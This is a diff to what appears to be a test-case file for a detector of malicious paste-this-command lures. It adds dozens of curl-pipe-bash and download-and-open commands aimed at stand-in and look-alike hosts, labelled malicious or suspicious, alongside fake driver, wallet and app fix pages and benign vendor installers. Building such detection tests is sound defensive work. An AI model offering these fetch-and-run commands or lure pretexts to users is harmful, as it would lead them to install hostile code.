@@ -170,6 +170,168 @@ for text in URL_QUIET:
     quiet("url-script-verify-tail", text, "windows", "unknown", None)
     quiet("url-script-verify-tail", text, "windows", "other", "https://wiki.example.com/it/links")
 
+
+# ---- curl | bash from a page dressed as a product's download or fix page ---------------------
+# (page, script host, product comment or none): the product's name in a label of a download or
+# help site, a borrowed company beside its trouble, a fix shop or a look-alike of a forge's host
+CURL_PAGES = (
+    "https://get-loomdesk.app-downloads.example/mac",
+    "https://quillnote-desktop.mac-apps-hub.example/",
+    "https://chatgpt-mac.ai-tools-download.example/",
+    "https://brew-sh.pkg-get.example/install",
+    "https://nvidia-driver-fix.gpu-support.example/linux",
+    "https://steam-proton-fix.gamers-help.example/",
+    "https://trezor-suite-update.wallet-support.example/",
+    "https://teams-audio-repair.example.com/kb/42",
+)
+CURL_HOSTS = (
+    "https://lm.mac-installer.invalid/install.sh",
+    "https://dl.quill-pkg.test/i.sh",
+    "https://cg.gpt-mac.test/setup",
+    "https://raw.githubusercontent-cdn.test/Homebrew/install/HEAD/install.sh",
+    "https://gpu.driver-patch.test/nv.sh",
+    "https://pr.proton-patch.invalid/f.sh",
+    "https://ts.wallet-recovery.invalid/s.sh",
+    "https://au.cdn-node.test/a.sh",
+)
+CURL_FORMS = (
+    "curl -fsSL {u} | bash",
+    '/bin/bash -c "$(curl -fsSL {u})"',
+    "bash <(curl -s {u})",
+    "curl -s {u} | sudo bash",
+    'sh -c "$(wget -qO- {u})"',
+    "curl -sL {u} | zsh",
+)
+for i, page in enumerate(CURL_PAGES):
+    for k in range(3):
+        form = CURL_FORMS[(i + k * 2) % len(CURL_FORMS)]
+        text = form.replace("{u}", CURL_HOSTS[i])
+        book.add(
+            "curl-lure-page", text, "malicious", "macos" if i % 2 else "linux", "terminal", page
+        )
+# the same scripts with a fake fix's comment or from a fix shop's host: a trait bare too
+FIX_COMMENTS = (
+    "  # Ledger Live: firmware sync error 0x6b0c",
+    "  # fixes audio driver crash (error 0x80070005)",
+    "  # wallet sync failed - run to repair",
+    "  # Proton: vulkan not working fix",
+    "  # status code -1073741515 fix",
+)
+for i, comment in enumerate(FIX_COMMENTS):
+    text = CURL_FORMS[i % 3].replace("{u}", CURL_HOSTS[7 - i % 3]) + comment
+    both("curl-lure-page", text, "macos", "terminal", "https://forum.gadget-talk.example/t/991")
+for host in (
+    "https://ll.ledger-fix.invalid/live.sh",
+    "https://dl.driver-patch.test/g.sh",
+    "https://x.camera-repair.test/c.sh",
+    "https://w.wallet-recovery.invalid/r.sh",
+):
+    both(
+        "curl-lure-page",
+        "curl -fsSL " + host + " | bash",
+        "linux",
+        "terminal",
+        "https://www.reddit.com/r/linuxquestions/comments/1abc/help/",
+    )
+# a look-alike of the forges' file hosts
+for host in (
+    "https://raw.githubusercontent-cdn.test/Homebrew/install/HEAD/install.sh",
+    "https://raw-githubusercontent.net/nvm-sh/nvm/v0.40.1/install.sh",
+    "https://githubusercontnet.com/ohmyzsh/ohmyzsh/master/tools/install.sh",
+    "https://gitlab-raw.test/group/tool/-/raw/main/install.sh",
+):
+    both(
+        "curl-lure-page",
+        '/bin/bash -c "$(curl -fsSL ' + host + ')"',
+        "macos",
+        "terminal",
+        "https://www.mac-power-tips.example/setup-dev",
+    )
+# an app downloaded, unpacked into /Applications and opened, from a page dressed as its own
+APP_PAGES = (
+    "https://figment-agent.design-plugins.example/",
+    "https://get-pixelvault.mac-apps-hub.example/dl",
+    "https://zoom-update-fix.example.net/mac",
+)
+APP_FORMS = (
+    "curl -sL {u}/Agent.zip -o /tmp/a.zip && ditto -xk /tmp/a.zip /Applications && open"
+    " /Applications/Agent.app",
+    "cd /tmp && curl -fsSLO {u}/Vault.zip && unzip -q Vault.zip -d /Applications && open -a"
+    " /Applications/Vault.app",
+    "curl -L -o ~/Downloads/m.dmg {u}/m.dmg && hdiutil attach ~/Downloads/m.dmg && cp -R"
+    " /Volumes/M/M.app /Applications && open /Applications/M.app",
+)
+for i, page in enumerate(APP_PAGES):
+    for j, form in enumerate(APP_FORMS):
+        if (i + j) % 3 == 2:
+            continue
+        text = form.replace(
+            "{u}",
+            (
+                "https://fa.agent-zip.invalid",
+                "https://cdn.vault-dl.test",
+                "https://m.zoom-fix.test",
+            )[i],
+        )
+        book.add("app-zip-to-applications", text, "malicious", "macos", "terminal", page)
+# look-alikes: vendors' own installers from their own pages, a tutorial quoting a vendor's
+# installer (a warning at most), a company's product site, a download site quoting the
+# product's own host
+CURL_QUIET = (
+    (
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install'
+        '.sh)"',
+        "https://brew.sh/",
+    ),
+    ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "https://rustup.rs/"),
+    (
+        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
+        "https://github.com/nvm-sh/nvm",
+    ),
+    ("curl -fsSL https://ollama.com/install.sh | sh", "https://ollama.com/download/linux"),
+    (
+        "curl -fsSL https://ollama.com/install.sh | sh",
+        "https://ollama-setup.app-downloads.example/linux",
+    ),
+    (
+        "curl -sSLf https://scala-cli.virtuslab.org/get | sh",
+        "https://scala-cli.virtuslab.org/install",
+    ),
+    (
+        "curl -fsSL https://loomdesk.dev/install.sh | bash  # fixes the 0x12 sync error on M1",
+        "https://loomdesk.dev/docs/troubleshooting",
+    ),
+    ("curl -fsSL https://get.wallet-cli.dev | sh", "https://docs.wallet-cli.dev/install"),
+    (
+        "curl -LsSf https://astral.sh/uv/install.sh | sh",
+        "https://uv-python.tutorials-hub.example/getting-started",
+    ),
+)
+for text, page in CURL_QUIET:
+    quiet("curl-lure-page", text, "macos", "terminal", page)
+# a tutorial about the product quoting its own installer vouches for it (provenance); a
+# download site's page for the product quoting the product's own host is a warning, never a
+# block
+for text, page in (
+    (
+        "curl -fsSL https://get.loomdesk.dev/install.sh | bash",
+        "https://www.linuxize.example/post/how-to-install-loomdesk",
+    ),
+    (
+        "bash <(curl -sL https://install.quillnote.io/i.sh)",
+        "https://dev.to/someone/setting-up-quillnote-on-ubuntu-3kd1",
+    ),
+):
+    quiet("curl-lure-page", text, "linux", "terminal", page)
+for text, page in (
+    (
+        "curl -fsSL https://get.loomdesk.dev/install.sh | bash",
+        "https://loomdesk.app-downloads.example/mac",
+    ),
+    ("curl -fsSL https://quill.io/i.sh | sh", "https://quillnote.mac-apps-hub.example/download"),
+):
+    book.add("curl-lure-page", text, "suspicious", "macos", "terminal", page)
+
 CASES = book.cases
 
 
